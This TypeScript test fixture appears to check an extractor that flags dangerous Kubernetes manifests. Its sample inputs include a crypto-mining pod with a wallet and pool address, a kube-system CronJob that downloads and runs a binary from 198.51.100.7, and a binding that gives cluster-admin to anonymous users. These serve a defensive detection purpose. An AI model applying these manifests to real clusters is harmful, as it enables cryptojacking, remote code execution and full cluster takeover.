import type { ExtractorFixture } from '../../../tests/fixture.ts';

const wallet = '888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';

const minerPod = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'api-7f', namespace: 'default', ownerReferences: [{ kind: 'ReplicaSet', name: 'api' }] },
  spec: {
    containers: [
      {
        name: 'c',
        image: 'ubuntu',
        command: ['/x'],
        args: ['-o', 'pool.example.com:3333', '-u', wallet, '--donate-level=1'],
      },
    ],
  },
};

const monitor = {
  apiVersion: 'apps/v1',
  kind: 'DaemonSet',
  metadata: { name: 'node-exporter', namespace: 'monitoring' },
  spec: {
    template: {
      spec: {
        hostNetwork: true,
        hostPID: true,
        containers: [
          {
            name: 'exporter',
            image: 'quay.io/prometheus/node-exporter:v1.8.2',
            args: ['--path.rootfs=/host/root'],
            volumeMounts: [{ name: 'root', mountPath: '/host/root' }],
          },
        ],
        volumes: [{ name: 'root', hostPath: { path: '/' } }],
      },
    },
  },
};

const list = (...items: object[]): string => JSON.stringify({ apiVersion: 'v1', items, kind: 'List' }, undefined, 4);

const cronJobYaml = `apiVersion: v1
items:
- apiVersion: batch/v1
  kind: CronJob
  metadata:
    name: sync
    namespace: kube-system
  spec:
    schedule: '*/5 * * * *'
    jobTemplate:
      spec:
        template:
          spec:
            restartPolicy: OnFailure
            containers:
            - name: sync
              image: alpine
              command:
              - sh
              - -c
              - |
                wget -q -O /tmp/x http://198.51.100.7/x
                chmod +x /tmp/x && /tmp/x
- apiVersion: rbac.authorization.k8s.io/v1
  kind: ClusterRoleBinding
  metadata:
    name: open
  roleRef:
    kind: ClusterRole
    name: cluster-admin
  subjects:
  - kind: User
    name: system:anonymous
kind: List
metadata:
  resourceVersion: ""
`;

export const fixture: ExtractorFixture = {
  fires: [
    {
      name: 'a pod that mines, in a list as JSON',
      input: list(monitor, minerPod),
      expect: [
        {
          kind: 'container',
          value: { owner: 'DaemonSet/node-exporter', why: ['sees-whole-machine', 'restarts-for-ever'] },
        },
        { kind: 'mining-config', value: { source: 'argv' } },
        { kind: 'container', value: { owner: 'ReplicaSet/api', mines: true } },
      ],
    },
    {
      name: 'a job that fetches and starts, and a cluster that is open, as YAML',
      input: cronJobYaml,
      expect: [
        { kind: 'container', value: { owner: 'CronJob/sync', why: ['fetches-and-runs'] } },
        { kind: 'machine-setting', value: { why: ['open-door'] } },
      ],
    },
  ],
  silent: [
    { name: 'a chart', input: 'apiVersion: v2\nname: web\nversion: 1.0.0\n' },
    { name: 'an audit log', input: '{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"get"}\n' },
  ],
};
